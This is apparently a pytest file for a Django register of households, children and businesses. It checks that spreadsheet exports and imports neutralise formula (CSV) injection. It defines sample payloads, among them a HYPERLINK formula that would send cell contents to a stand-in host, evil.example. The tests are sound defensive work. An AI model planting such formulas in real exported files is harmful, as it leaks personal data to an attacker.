"""Formula injection (OWASP "CSV injection"): text a user typed never becomes a live formula
in an exported spreadsheet, whatever the export and whatever the format."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from children.models import Child
from imports.cells import safe_cell, unquote
from imports.models import ImportJob
from imports.tests.helpers import upload
from reports import services as report_services
from reports.models import Report
from tests.factories import BusinessFactory, ChildFactory, GroupFactory, HouseholdFactory

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Xem")'
# One of each start a spreadsheet runs: = + - @, and tab / carriage return in front of one.
PAYLOADS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_it_quotes_every_text_cell_a_spreadsheet_would_run(value):
    assert safe_cell(value) == "'" + value
    assert unquote(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "a=b", "", "'quoted", "0912345678"])
def test_it_leaves_ordinary_text_alone(value):
    assert safe_cell(value) == value
    assert unquote(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, dt.date(2026, 1, 1)])
def test_it_leaves_numbers_and_dates_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def evil_register(group_a):
    household = HouseholdFactory(code="HGD-X1", address=EVIL, group=group_a)
    ChildFactory(
        full_name="Nguyễn Thị Hoa",
        household=household,
        birth_date=dt.date(2015, 3, 1),
        risk_factors=EVIL,
        school_name="@SUM(A1:A9)",
    )
    BusinessFactory(code="CS-X", name="-2+3", owner_name="+1+1", address=EVIL, group=group_a)


def _cells_xlsx(content: bytes) -> list:
    return [
        v
        for ws in load_workbook(io.BytesIO(content)).worksheets
        for row in ws.iter_rows(values_only=True)
        for v in row
    ]


def _no_formula_in(content: bytes) -> None:
    """A formula is stored as <f>…</f> in the sheet XML; an exported file must hold none."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _cells_csv(content: bytes) -> list:
    text = content.decode("utf-8").removeprefix("\ufeff")
    return [v for row in csv.reader(io.StringIO(text)) for v in row]


EXPECTED = {
    "export_households": [EVIL],
    "export_children": [EVIL, "@SUM(A1:A9)"],
    "export_businesses": [EVIL, "-2+3", "+1+1"],
}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_it_exports_typed_formulas_as_text(client, officer, evil_register, name, fmt):
    client.force_login(officer)
    content = client.get(reverse(f"imports:{name}"), {"format": fmt}).content
    cells = _cells_xlsx(content) if fmt == "xlsx" else _cells_csv(content)
    for value in EXPECTED[name]:
        assert "'" + value in cells, (value, cells)
        assert value not in cells
    if fmt == "xlsx":
        _no_formula_in(content)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_it_exports_aggregates_with_typed_group_codes_as_text(client, officer, fmt):
    """The aggregates hold no names, but group codes are typed in the admin."""
    group = GroupFactory(code="=1+1", name="Tổ lạ")
    HouseholdFactory(code="HGD-Y1", group=group)
    client.force_login(officer)
    content = client.get(reverse("imports:export_aggregates"), {"format": fmt}).content
    cells = _cells_xlsx(content) if fmt == "xlsx" else _cells_csv(content)
    assert "'=1+1" in cells and "=1+1" not in cells
    if fmt == "xlsx":
        _no_formula_in(content)


def test_it_writes_the_report_workbook_without_formulas(db):
    stats = {"by_group": [{"code": "TDP-01", "name": EVIL, "children": 1, "at_risk": 0}]}
    stats["by_group"][0] |= {"labour": 0, "managed": 0}
    report = Report(kind="annual", period="2026", data={"statistics": stats})
    content = report_services.report_workbook(report)
    cells = _cells_xlsx(content)
    assert "'" + EVIL in cells and EVIL not in cells
    _no_formula_in(content)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_it_imports_an_export_with_quoted_cells_back_unchanged(client, officer, evil_register, fmt):
    client.force_login(officer)
    for kind, name in (
        ("households", "export_households"),
        ("children", "export_children"),
        ("businesses", "export_businesses"),
    ):
        data = client.get(reverse(f"imports:{name}"), {"format": fmt}).content
        client.post(reverse("imports:upload"), {"kind": kind, "file": upload(f"x.{fmt}", data)})
        job = ImportJob.objects.latest("pk")
        assert job.count_unchanged == job.total_rows > 0, (kind, job.message, job.errors)
    assert Child.objects.get().risk_factors == EVIL
